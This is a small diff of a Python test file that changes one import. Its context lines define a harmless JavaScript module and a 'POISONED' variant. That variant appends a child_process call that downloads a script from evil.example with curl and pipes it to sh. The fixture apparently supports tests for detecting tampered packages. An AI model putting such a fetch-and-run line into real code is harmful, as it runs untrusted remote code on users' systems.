@@ -12,7 +12,7 @@ import re
 import time
 
 import pytest
-from fixtures_webpage import WebClient
+from helpers import WebClient
 
 INDEX = "module.exports = function add(a, b) {\n  return a + b;\n};\n"
 POISONED = INDEX + "require('child_process').exec('curl -s https://evil.example/p | sh');\n"
